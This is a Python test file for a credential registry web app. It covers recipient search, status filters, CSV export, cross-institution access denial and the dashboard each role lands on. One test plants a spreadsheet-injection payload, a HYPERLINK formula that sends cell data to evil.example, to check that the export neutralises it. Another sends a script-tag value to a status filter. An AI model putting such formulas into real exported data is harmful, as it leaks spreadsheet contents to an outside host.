"""The registrar's recipients list (search, status, CSV) and the dashboard staff land on."""

from __future__ import annotations

import csv
import io

from demo_support import Seeded
from fastapi.testclient import TestClient
from httpx import Response
from test_award_list import DELFLAND_REGISTRAR, KALTENBACH_REGISTRAR, list_path, signed_in

from microcred.domain.spreadsheet_cells import unmarked
from microcred.services.award_input import LearnerInput
from microcred.services.demo_accounts import LEARNER_EMAIL
from microcred.services.recipients import matching, recipients, recipients_csv
from web.web_support import csrf_token

DESIGNER = "designer@montecalvo.example"


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def login_response(client: TestClient, seeded: Seeded, email: str) -> Response:
    """Return the answer to signing in through the form with no page asked for."""
    token = csrf_token(client, "/login")
    form = {"csrf_token": token, "email": email, "password": seeded.password_of(email)}
    return client.post("/login", data=form, follow_redirects=False)


def test_the_search_finds_learners_by_part_of_the_name_or_e_mail_in_any_case(
    seeded: Seeded,
) -> None:
    listed = recipients(seeded.awards, "hs-delfland")
    assert {r.award.learner_name for r in matching(listed, "ROMANO")} == {"Sofia Romano"}
    assert {r.award.learner_name for r in matching(listed, "lukas.berger@")} == {"Lukas Berger"}
    assert matching(listed, "nobody-of-that-name") == []
    assert len(matching(listed, "  ")) == len(listed) == 3


def test_the_status_filter_takes_a_credential_state_or_a_claim_state(seeded: Seeded) -> None:
    listed = recipients(seeded.awards, "hs-delfland")
    assert {r.award.learner_name for r in matching(listed, state="suspended")} == {"Sofia Romano"}
    assert {r.award.learner_name for r in matching(listed, state="claimed")} == {"Anna Schmidt"}
    assert {r.award.learner_name for r in matching(listed, state="waiting")} == {
        "Lukas Berger",
        "Sofia Romano",
    }


def test_the_page_narrows_the_list_and_its_csv_link_keeps_the_filters(
    seeded: Seeded, demo_client: TestClient
) -> None:
    signed_in(demo_client, seeded, DELFLAND_REGISTRAR)
    page = demo_client.get(list_path(seeded), params={"q": "berger", "status": "valid"})
    assert page.status_code == 200
    assert "Lukas Berger" in page.text and "Sofia Romano" not in page.text
    assert "1 of 3 recipients shown." in page.text
    assert "awards.csv?q=berger&amp;status=valid" in page.text
    unknown_state = demo_client.get(list_path(seeded), params={"status": "<script>"})
    assert unknown_state.status_code == 200 and "3 of 3 recipients shown." in unknown_state.text


def test_the_csv_export_holds_the_filtered_recipients(
    seeded: Seeded, demo_client: TestClient
) -> None:
    signed_in(demo_client, seeded, DELFLAND_REGISTRAR)
    response = demo_client.get(list_path(seeded) + ".csv", params={"status": "claimed"})
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    [row] = csv_rows(response.text)
    assert (row["name"], row["email"], row["claim"]) == ("Anna Schmidt", LEARNER_EMAIL, "claimed")
    assert row["status"] == "valid"


def test_a_learner_name_that_reads_as_a_formula_is_exported_as_text(seeded: Seeded) -> None:
    [sofia] = [a for a in seeded.result.made if a.learner_name == "Sofia Romano"]
    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    learner = LearnerInput(name=evil, email="evil@learner.example", institutional_id="@SUM(1)")
    seeded.awards.award(sofia.specification_id, None, learner, awarded_on=sofia.awarded_on)
    exported = recipients_csv(matching(recipients(seeded.awards, "hs-delfland"), "evil"))
    [row] = csv_rows(exported)
    assert row["name"] == "'" + evil and row["institutional_id"] == "'@SUM(1)"
    assert unmarked(row["name"]) == evil


def test_another_institutions_registrar_gets_no_list_and_no_csv(
    seeded: Seeded, demo_client: TestClient
) -> None:
    signed_in(demo_client, seeded, KALTENBACH_REGISTRAR)
    assert demo_client.get(list_path(seeded)).status_code in (403, 404)
    assert demo_client.get(list_path(seeded) + ".csv").status_code in (403, 404)


def test_a_registrar_lands_on_the_dashboard_with_awards_to_make_and_recent_ones(
    seeded: Seeded, demo_client: TestClient
) -> None:
    response = login_response(demo_client, seeded, DELFLAND_REGISTRAR)
    assert response.headers["location"] == "/dashboard"
    dashboard = demo_client.get("/dashboard")
    assert "Recent awards" in dashboard.text and "Sofia Romano" in dashboard.text
    assert list_path(seeded) in dashboard.text  # the recipients of its specification
    assert "Your drafts" not in dashboard.text  # a registrar designs nothing


def test_a_designer_lands_on_the_drafts_of_the_institution(
    seeded: Seeded, demo_client: TestClient
) -> None:
    signed_in(demo_client, seeded, DESIGNER)
    dashboard = demo_client.get("/dashboard")
    assert "Your drafts" in dashboard.text
    assert "Conservation of Historic Plaster and Frescoes" in dashboard.text  # montecalvo's draft
    assert "Recent awards" not in dashboard.text


def test_a_learner_signing_in_lands_in_the_wallet(seeded: Seeded, demo_client: TestClient) -> None:
    response = login_response(demo_client, seeded, LEARNER_EMAIL)
    assert response.headers["location"] == "/wallet"
    assert demo_client.get("/dashboard", follow_redirects=False).headers["location"] == "/wallet"
